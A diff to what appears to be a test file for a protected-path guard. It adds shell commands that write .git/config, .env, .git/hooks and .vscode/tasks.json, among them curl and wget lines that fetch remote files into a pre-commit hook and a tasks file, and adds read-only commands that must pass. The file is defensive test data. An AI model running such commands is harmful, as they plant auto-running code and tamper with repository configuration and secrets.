@@ -99,6 +99,18 @@ WRITES = {
     "echo x > ../other/.claude/settings.json": ".claude",
     "cp -r evil/. .": "every protected path under it",
     "bash -c 'echo x >> .git/config'": ".git/config",
+    "cat > .git/config <<EOF\n[core]\nEOF": ".git/config",
+    "exec 3>.git/config": ".git/config",
+    "awk -i inplace 1 .env": ".env",
+    "ed -s .git/config": ".git/config",
+    "curl -sSLo .git/hooks/pre-commit https://example.invalid/x": ".git/hooks",
+    "wget -O .vscode/tasks.json https://example.invalid/x": ".vscode",
+    "sort -o .env x": ".env",
+    "git diff --output=.git/config": ".git/config",
+    "ln .git/config hard": ".git/config",
+    "cp -l .git/config hard": ".git/config",
+    "GIT_CONFIG_GLOBAL=.git/config git config --global a.b c": ".git/config",
+    "busybox tee .git/config": ".git/config",
     "find . -name x -exec tee .git/config ;": ".git/config",
 }
 """Commands that write a protected path, and the entry that protects it."""
@@ -116,6 +128,10 @@ SAFE = [
     "cat .git/config",
     "grep -r x .claude",
     'for f in *.txt; do sed -i s/a/b/ "$f"; done',
+    "cp .git/config backup.cfg",
+    "awk 1 .git/config",
+    "curl -fsSL https://example.invalid/x",
+    "git diff --stat",
 ]
 """Commands that write no protected path (or only read one)."""
 
